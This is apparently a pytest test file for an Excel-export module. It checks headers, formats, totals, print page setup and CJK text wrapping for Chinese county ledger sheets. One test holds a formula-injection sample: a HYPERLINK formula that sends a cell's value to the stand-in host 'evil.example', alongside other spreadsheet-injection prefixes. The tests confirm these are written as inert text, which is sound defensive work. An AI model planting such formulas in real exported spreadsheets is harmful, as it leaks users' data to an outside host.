"""The one Excel writer (core.xlsx): every sheet the system writes gets the same header, formats and totals; a sheet
people print also its page setup, and long text wrapped in rows tall enough for it."""

import datetime
import io
from decimal import Decimal

import pytest
from openpyxl import Workbook, load_workbook

from core.xlsx import Column, Kind, PageSetup, Paper, Sheet, lines_of, row_height, text_units, workbook_bytes
from tests.worlds.excel import libreoffice_sheets

COLUMNS = (
    Column("户编号", 20, Kind.ID),
    Column("日期", 12, Kind.DATE),
    Column("金额", 16, Kind.MONEY),
    Column("人数", 8, Kind.INT),
    Column("说明", 30),
)


def _written(above=()):
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "台账", COLUMNS, above=above)
    sheet.append(["640324100201000001", datetime.date(2026, 11, 23), Decimal("1234.50"), 3, "甲"])
    sheet.append([640324100201000002, None, Decimal("0.01"), 2, ""])
    sheet.append_totals()
    return load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]


def test_header_formats_text_ids_and_running_totals():
    sheet = _written()
    assert [c.value for c in sheet[1]] == [c.header for c in COLUMNS]
    assert all(c.font.bold for c in sheet[1])
    assert sheet.freeze_panes == "A2"
    assert sheet.column_dimensions["A"].width == 20
    first = sheet[2]
    assert (first[0].value, first[0].number_format) == ("640324100201000001", "@")
    assert first[1].number_format == "yyyy-mm-dd"
    assert first[2].number_format == "#,##0.00"
    assert sheet["A3"].value == "640324100201000002"  # a number given for an ID column is written as text
    totals = [c.value for c in sheet[4]]
    assert totals[0] == "合计"
    assert Decimal(str(totals[2])) == Decimal("1234.51")
    assert totals[3] == 5
    assert totals[1] is None  # dates are not totalled
    assert totals[4] is None  # nor is text


def test_lines_above_the_header_are_merged_and_the_panes_freeze_below_it():
    sheet = _written(above=("某县监测对象台账", "填报单位：某县"))
    assert {str(r) for r in sheet.merged_cells.ranges} == {"A1:E1", "A2:E2"}
    assert sheet["A1"].font.bold
    assert sheet.freeze_panes == "A4"
    assert [c.value for c in sheet[3]] == [c.header for c in COLUMNS]


def test_given_totals_are_written_as_they_are():
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "资金", COLUMNS)
    sheet.append_totals(["合计", "", Decimal("99.99"), 7, ""])
    (row,) = load_workbook(io.BytesIO(workbook_bytes(workbook)))["资金"].iter_rows(min_row=2, values_only=True)
    assert row[0] == "合计"
    assert Decimal(str(row[2])) == Decimal("99.99")
    assert row[3] == 7


HYPERLINK = '=HYPERLINK("http://evil.example/?id="&A2,"详情")'


@pytest.mark.parametrize("text", [HYPERLINK, "=1+1", "+86 139", "-1", "@SUM(A1)", "\tx", "\rx"])
def test_text_that_a_spreadsheet_would_run_is_written_as_inert_text(text):
    """OWASP formula injection: a text cell starting with = + - @, tab or CR is text with the quote prefix, in a
    text column and in an ID column, whose other cells keep their style."""
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "台账", COLUMNS)
    sheet.append([text, None, None, None, text])
    sheet.append(["640324100201000001", None, None, None, "甲"])
    cells = load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]
    for cell in (cells["A2"], cells["E2"]):
        assert (cell.value, cell.data_type, cell.quotePrefix) == (text, "s", True)
    assert cells["A2"].number_format == "@"
    assert not cells["A3"].quotePrefix  # the ID column's shared style is untouched
    assert not cells["E3"].quotePrefix


def test_libreoffice_shows_an_injected_hyperlink_as_its_text_and_runs_nothing(tmp_path):
    workbook = Workbook(write_only=True)
    Sheet(workbook, "台账", COLUMNS).append(["640324100201000001", None, None, None, HYPERLINK])
    (sheet,) = libreoffice_sheets(workbook_bytes(workbook), tmp_path).values()
    assert sheet[1][4] == HYPERLINK  # as typed, not the link's label 详情


NOTE = "入户核查“两不愁三保障”及饮水安全情况，未发现问题"  # 26 CJK characters: two lines in 30 units, four in 14


def test_a_sheet_that_prints_fits_the_page_width_repeats_its_header_and_wraps_long_text():
    workbook = Workbook(write_only=True)
    page = PageSetup(Paper.A3)
    sheet = Sheet(
        workbook,
        "台账",
        COLUMNS,
        above=("某县走访台账", "填报单位：某县"),
        page=page,
        footer=("某县走访台账", "导出时间"),
    )
    for _ in range(3):
        sheet.append(["640324100201000001", None, Decimal("1.00"), 1, NOTE])
    sheet.append(["640324100201000002", None, Decimal("1.00"), 1, "甲"])
    sheet.append_totals(label="合计 4 户")
    assert len(sheet.sheet.row_dimensions) == 2  # the title's and the header's: no row keeps its height in memory
    written = load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]
    assert (written.page_setup.paperSize, written.page_setup.orientation) == (Paper.A3.value, "landscape")
    assert (written.page_setup.fitToWidth, written.page_setup.fitToHeight) == (1, 0)
    assert written.sheet_properties.pageSetUpPr.fitToPage
    assert written.print_title_rows == "$3:$3"
    assert written.print_options.horizontalCentered
    assert written.print_options.gridLines
    assert written.page_margins.left == written.page_margins.right == 0.25
    footer = written.oddFooter
    assert (footer.left.text, footer.center.text, footer.right.text) == (
        "某县走访台账",
        "第 &P 页 共 &N 页",
        "导出时间",
    )
    assert footer.center.size == round(9 / page.scale(COLUMNS))  # prints at about 9 pt once scaled to the page
    assert lines_of(NOTE, 30) == 2
    for row in (4, 5, 6):
        assert written.row_dimensions[row].height == row_height(2)
        assert written.cell(row=row, column=5).alignment.wrap_text
        assert not written.cell(row=row, column=1).alignment.wrap_text  # only the cell that wraps is styled
    assert written.row_dimensions[7].height is None  # a row that fits keeps the default height
    assert not written["E7"].alignment.wrap_text
    assert written["A8"].value == "合计 4 户"


def test_a_sheet_that_is_not_printed_has_no_page_setup_and_no_wrapping():
    workbook = Workbook(write_only=True)
    sheet = Sheet(workbook, "台账", COLUMNS)
    sheet.append(["640324100201000001", None, Decimal("1.00"), 1, NOTE])
    written = load_workbook(io.BytesIO(workbook_bytes(workbook)))["台账"]
    assert written.print_title_rows is None
    assert written.page_setup.fitToWidth is None
    assert written.row_dimensions[2].height is None
    assert not written["E2"].alignment.wrap_text


def test_width_counts_a_cjk_character_as_two_units_and_keeps_line_breaks():
    assert text_units("监测") == 4
    assert text_units("UE-1") == pytest.approx(4.4)
    assert lines_of("风险已消除", 10) == 2  # 10 units, 8.3 of room: Excel draws 65 px of a 75 px text
    assert lines_of("边缘易致贫户", 14) == 1
    assert lines_of("甲\n乙", 14) == 2


@pytest.mark.parametrize(
    ("width", "paper", "landscape"),
    [
        (100, Paper.A4, False),
        (186, Paper.A4, True),
        (278, Paper.A4, True),
        (280, Paper.A3, True),
        (400, Paper.A3, True),
    ],
)
def test_a_sheet_prints_on_a4_while_its_text_stays_at_six_points(width, paper, landscape):
    setup = PageSetup.fitting([Column("甲", width)])
    assert (setup.paper, setup.landscape) == (paper, landscape)
